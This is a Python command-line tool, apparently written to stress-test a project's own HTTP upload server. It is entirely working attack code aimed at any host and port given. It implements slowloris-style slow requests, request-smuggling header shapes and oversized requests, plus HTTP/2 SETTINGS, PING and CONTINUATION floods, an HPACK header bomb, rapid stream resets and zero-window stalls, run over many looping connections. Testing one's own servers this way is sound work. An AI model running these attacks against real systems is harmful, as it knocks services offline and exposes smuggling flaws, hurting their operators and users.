"""Clients that no server wants, written from the specifications alone. Nothing here is shared with the project's sources.

Usage: attacks.py HOST:PORT NAME [--path /ADDRESS] [--seconds S] [--connections N] [--tls]

Each of N connections does its worst; one that the server ends begins anew after a while. Prints how often what happened:
{"connected": …, "answered": {"408": …}, "ended": …}. A blob's path is needed by those who read.
"""

import argparse
import asyncio
import collections
import json
import random
import re
import resource
import socket
import ssl
import time

PAUSE = 0.2  # seconds until a connection that was ended begins anew
GET = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
SHAPES = [
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n folded: y\r\n\r\n",
    b"GET /healthz HTTP/1.1\nHost: localhost\n\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n",
]
OVERSIZE = [
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 1_000_000 + b"\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * 100_000 + b"\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n3;" + b"a" * 1_000_000,
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" + b"X: a\r\n" * 100_000,
]


TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])


class Attacker:
    """One connection at a time, and what came of all of them."""

    def __init__(self, options, tally):
        self.options, self.tally = options, tally
        self.random = random.Random(7)

    async def connect(self):
        host, port = self.options.server.rsplit(":", 1)
        connection = socket.socket()
        connection.setblocking(False)
        # A reader that is slow shall not be helped by the kernel.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            await asyncio.get_running_loop().sock_connect(connection, (host, int(port)))
            arguments = {"ssl": TLS, "server_hostname": host} if self.options.tls else {}
            self.reader, self.writer = await asyncio.open_connection(sock=connection, limit=4096, **arguments)
        except BaseException:
            connection.close()
            raise
        self.tally["connected"] += 1

    async def send(self, data):
        self.writer.write(data)
        await self.writer.drain()

    async def trickle(self, data, seconds=1):
        """One byte a second, until the server has had enough."""
        for byte in data:
            await self.send(bytes([byte]))
            if self.reader.at_eof():
                return
            await asyncio.sleep(seconds)

    async def read(self, seconds=30):
        """What comes until the server ends it, and what it was called."""
        data = b""
        try:
            async with asyncio.timeout(seconds):
                while piece := await self.reader.read(65536):
                    data = (data + piece)[-65536:]
            self.tally["ended"] += 1
        finally:
            for status in re.findall(rb"HTTP/1.1 (\d{3})", data):
                self.tally[status.decode()] += 1

    # HTTP/1.1

    async def slow_headers(self):
        await self.trickle(GET[:-2] + b"X-Slow: " + b"a" * 1000)
        await self.read()

    async def slow_body(self):
        await self.send(b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
        await self.trickle(b"a" * 1000)
        await self.read()

    async def slow_reading(self):
        await self.send(b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % self.options.path.encode())
        while await self.reader.read(1):
            await asyncio.sleep(1)
        self.tally["ended"] += 1

    async def silence(self):
        await self.read(seconds=3600)

    async def half_closed(self):
        await self.send(self.random.choice([GET[:20], GET, b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n"]))
        self.writer.write_eof()
        await self.read()

    async def rubbish(self):
        await self.send(GET * 20 + self.random.randbytes(20_000))
        await self.read()

    async def smuggling(self):
        await self.send(self.random.choice(SHAPES) + GET)
        await self.read()

    async def oversize(self):
        try:
            await self.send(self.random.choice(OVERSIZE))
        finally:
            await self.read()

    # HTTP/2 (RFC 9113)

    async def begin(self, settings=b""):
        await self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.reading = asyncio.ensure_future(self.read(seconds=3600))

    async def push(self, data):
        """Sends, unless the server ends it first."""
        self.writer.write(data)
        drained = asyncio.ensure_future(self.writer.drain())
        await asyncio.wait({drained, self.reading}, return_when=asyncio.FIRST_COMPLETED)
        if drained.done():
            drained.result()
        drained.cancel()

    async def flood(self, frames, count=100):
        """The same frames again and again, until the server has had enough."""
        try:
            while not self.reading.done():
                await self.push(frames * count)
                await asyncio.sleep(0.01)
        finally:
            self.reading.cancel()

    async def h2_settings(self):
        await self.begin()
        await self.flood(frame(SETTINGS, 0, 0))

    async def h2_pings(self):
        await self.begin()
        await self.flood(frame(PING, 0, 0, b"12345678"))

    async def h2_continuation(self):
        await self.begin()
        await self.send(frame(HEADERS, 0, 1, request("/healthz")))
        await self.flood(frame(CONTINUATION, 0, 1, field("x", "a" * 1000)))

    async def h2_headers(self):
        """A header list that is small on the wire: one large field, told once and then named a thousand times."""
        await self.begin()
        large = b"\x40" + string("x") + string("a" * 4000) + b"\xbe" * 2000
        await self.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/healthz") + large))
        await self.flood(b"", count=0)

    async def h2_resets(self):
        await self.begin()
        try:
            for stream in range(1, 1 << 30, 2):
                if self.reading.done():
                    break
                opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, request(self.options.path or "/healthz"))
                await self.push(opened + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                if stream % 100 == 1:
                    await asyncio.sleep(0.01)
        finally:
            self.reading.cancel()

    async def h2_streams(self):
        """More uploads than may be open at once, none of which goes on."""
        await self.begin()
        body = request("/upload", b"PUT") + field("content-length", "1000000")
        for stream in range(1, 600, 2):
            await self.send(frame(HEADERS, END_HEADERS, stream, body))
        await self.reading

    async def h2_questions(self):
        """Questions that need the disk, as many as may be open at once; nobody waits for an answer."""
        await self.begin()
        question = request("/uploads/" + "a" * 22, b"HEAD") + field("tus-resumable", "1.0.0")
        await self.send(b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, question) for stream in range(1, 200, 2)))
        await asyncio.sleep(0.05)
        self.tally["ended"] += 1

    async def h2_window(self):
        """A blob is asked for a hundred times, and room is given for one byte at a time."""
        await self.begin(b"\0\4" + (0).to_bytes(4, "big"))
        for stream in range(1, 200, 2):
            await self.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request(self.options.path)))
        try:
            while not self.reading.done():
                await self.push(b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 200, 2)))
                await asyncio.sleep(1)
        finally:
            self.reading.cancel()

    async def h2_empty(self):
        await self.begin()
        await self.send(frame(HEADERS, END_HEADERS, 1, request("/upload", b"PUT")))
        await self.flood(frame(DATA, 0, 1))


DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def string(text):
    """A string of HPACK (RFC 7541 §5.2) without Huffman coding."""
    data = text if isinstance(text, bytes) else text.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, prefix = len(data) - 127, b"\x7f"
    while rest >= 128:
        prefix += bytes([rest % 128 + 128])
        rest //= 128
    return prefix + bytes([rest]) + data


def field(name, value):
    """A field that no table keeps (RFC 7541 §6.2.2)."""
    return b"\0" + string(name) + string(value)


def request(path, method=b"GET"):
    return (field(":method", method) + field(":scheme", "https") + field(":authority", "localhost")
            + field(":path", path))


async def attack(options, tally):
    attacker = Attacker(options, tally)
    act = getattr(attacker, options.name.replace("-", "_"))
    while True:
        try:
            await attacker.connect()
            try:
                await act()
            finally:
                attacker.writer.transport.abort()
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as error:
            tally[type(error).__name__] += 1
        await asyncio.sleep(PAUSE)


async def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("server")
    parser.add_argument("name")
    parser.add_argument("--path", default="")
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tally = collections.Counter()
    tasks = [asyncio.create_task(attack(options, tally)) for _ in range(options.connections)]
    await asyncio.wait(tasks, timeout=options.seconds)
    for task in tasks:
        task.cancel()
    for outcome in await asyncio.gather(*tasks, return_exceptions=True):
        if not isinstance(outcome, asyncio.CancelledError):
            raise outcome
    print(json.dumps(tally), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
